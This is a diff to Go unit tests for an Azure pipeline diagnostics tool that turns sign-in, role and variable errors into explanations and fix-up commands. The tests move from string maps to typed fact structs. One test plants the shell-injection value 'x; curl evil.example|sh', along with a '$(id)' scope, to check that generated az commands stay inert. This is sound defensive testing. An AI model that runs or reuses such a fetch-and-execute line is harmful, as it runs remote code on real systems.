@@ -7,6 +7,7 @@ import (
 	"unicode/utf8"
 
 	"armpreflight/internal/catalogue"
+	"armpreflight/internal/catalogue/facts"
 	"armpreflight/internal/evidence"
 
 	"github.com/stretchr/testify/assert"
@@ -66,12 +67,12 @@ func TestAWrongSecretIsNotAnExpiredOne(t *testing.T) {
 
 func TestASubjectThatDiffersIsNamedByPartAndPlace(t *testing.T) {
 	d := Explain("AADSTS700213", situation(SchemeFederation, ModeManual),
-		Args{"segment": "segment 3 of the subject (connection)", "position": "12", "case": "yes"}, nil)
+		facts.Difference{Segment: "segment 3 of the subject (connection)", Position: 12, Case: true}, nil)
 	assert.Equal(t, "no federated credential in Microsoft Entra has the subject that connection 'prod-arm' presents: "+
 		"segment 3 of the subject (connection) differs from what it records, from character 12 on, by case only", d.Headline)
 	assert.Contains(t, d.Cause, "differ: segment 3 of the subject (connection), from character 12 on, by upper and lower case only.")
 
-	d = Explain("AADSTS700213", situation(SchemeFederation, ModeManual), Args{"agree": "yes"}, nil)
+	d = Explain("AADSTS700213", situation(SchemeFederation, ModeManual), facts.Difference{Agree: true}, nil)
 	assert.Equal(t, "no federated credential in Microsoft Entra has the subject that connection 'prod-arm' presents", d.Headline)
 	assert.Contains(t, d.Cause, "it is the credential in Microsoft Entra that has to be corrected.")
 	steps := strings.Join(d.Steps, "\n")
@@ -82,7 +83,7 @@ func TestASubjectThatDiffersIsNamedByPartAndPlace(t *testing.T) {
 
 func TestAMissingRoleNamesIdentityActionAndScope(t *testing.T) {
 	ev := evidence.FromResponse(evidence.ARM, 403, nil, []byte(`{"error":{"code":"AuthorizationFailed","message":"The client 'c' with object id '0f0f-1' does not have authorization to perform action 'Microsoft.Resources/subscriptions/read' over scope '/subscriptions/5' or the scope is invalid."}}`), nil)
-	d := ExplainEvidence(ev, prod, Args{"group": "rg-app"})
+	d := ExplainEvidence(ev, prod, facts.Request{Group: "rg-app"})
 	assert.Equal(t, "sign-in works, but the identity of connection 'prod-arm' has no right to 'Microsoft.Resources/subscriptions/read' at '/subscriptions/5'", d.Headline)
 	assert.Equal(t, SubscriptionOwner, d.Who)
 	steps := strings.Join(d.Steps, "\n")
@@ -106,16 +107,16 @@ func TestTheTenantOfASubscriptionComesFromItsAnswer(t *testing.T) {
 }
 
 func TestAVariableThatWasNotReplacedExplainsWhenConnectionsAreResolved(t *testing.T) {
-	d := Explain("variable-unresolved", prod, Args{"value": "$(conn)", "input": "azureSubscription", "exists": "yes"}, nil)
+	d := Explain("variable-unresolved", prod, facts.VariableUnresolved{Value: "$(conn)", Input: "azureSubscription", Exists: facts.Yes}, nil)
 	assert.Equal(t, "'$(conn)' was never replaced by a value in input 'azureSubscription': the variable got its value too late", d.Headline)
 	assert.Contains(t, d.Cause, "when the run is queued")
 	assert.Contains(t, strings.Join(d.Steps, "\n"), "${{parameters.name}}")
-	absent := Explain("variable-unresolved", prod, Args{"value": "$(conn)", "variable": "sub", "exists": "no"}, nil)
+	absent := Explain("variable-unresolved", prod, facts.VariableUnresolved{Value: "$(conn)", Variable: "sub", Exists: facts.No}, nil)
 	assert.Equal(t, "'$(conn)' was never replaced by a value in variable 'sub': the run has no variable of this name", absent.Headline)
 	assert.Equal(t, PipelineAuthor, d.Who)
 	assert.Empty(t, d.Ask)
 
-	d = Explain("variable-unset", prod, Args{"variable": "sub"}, nil)
+	d = Explain("variable-unset", prod, facts.VariableUnset{Variable: "sub"}, nil)
 	assert.Contains(t, strings.Join(d.Steps, "\n"), "$[ dependencies.<job>.outputs['<step>.<variable>'] ]")
 }
 
@@ -143,7 +144,7 @@ func TestUnknownAnswersAreExplainedCalmly(t *testing.T) {
 }
 
 func TestValuesAreDataAndStayShort(t *testing.T) {
-	d := Explain("variable-unset", prod, Args{"variable": "a{connection}[b]\n##vso[x]\x1b", "detail": strings.Repeat("long ", 500)}, nil)
+	d := Explain("variable-unset", prod, facts.VariableUnset{Variable: "a{connection}[b]\n##vso[x]\x1b", Detail: strings.Repeat("long ", 500)}, nil)
 	assert.Contains(t, d.Headline, "variable 'a{connection}[b] ##vso[x]' has no value")
 	assert.LessOrEqual(t, utf8.RuneCountInString(d.Headline), maxHeadline)
 	assert.NotContains(t, d.Headline, "\n")
@@ -159,7 +160,7 @@ func TestEveryNetworkFailureHasItsCode(t *testing.T) {
 	words := map[string]bool{}
 	for failure := evidence.DNSFailure; failure <= evidence.OtherNetwork; failure++ {
 		ev := evidence.Evidence{Service: evidence.ARM, Host: "management.azure.com", Network: failure, NetworkDetail: "what was seen"}
-		d := ExplainEvidence(ev, prod, Args{"detail": "a comparison of subjects"})
+		d := ExplainEvidence(ev, prod, facts.Request{Detail: "a comparison of subjects"})
 		assert.Equal(t, want[failure], d.Code, failure.String())
 		assert.NotContains(t, d.Headline, "a comparison of subjects", "%s: what the network said comes first", failure)
 		assert.False(t, words[failure.String()], "%s stands for two failures", failure)
@@ -201,11 +202,11 @@ func TestAWaitIsSaidInTheSteps(t *testing.T) {
 }
 
 func TestACommandHoldsNothingForTheShell(t *testing.T) {
-	args := Args{"lock": "x; curl evil.example|sh", "scope": `/subscriptions/$(id)`, "group": "rg (app)", "subscriptionid": "a6c4e2f8"}
-	d := Explain("read-only-lock", Situation{}, args, nil)
+	lock := facts.ReadOnlyLock{Lock: "x; curl evil.example|sh", Scope: `/subscriptions/$(id)`, Group: "rg (app)", SubscriptionID: "a6c4e2f8"}
+	d := Explain("read-only-lock", Situation{}, lock, nil)
 	steps := strings.Join(d.Steps, "\n")
 	assert.Contains(t, steps, `az lock delete --name "<lock>" --resource-group "rg (app)" --subscription a6c4e2f8`)
 	assert.Contains(t, d.Headline, "x; curl", "a sentence tells it as it is")
-	d = Explain("permission-missing", Situation{ObjectID: "e41a9d06"}, args, nil)
+	d = Explain("permission-missing", Situation{ObjectID: "e41a9d06"}, facts.PermissionMissing{Scope: lock.Scope}, nil)
 	assert.NotContains(t, strings.Join(d.Steps, "\n"), "$(id)")
 }
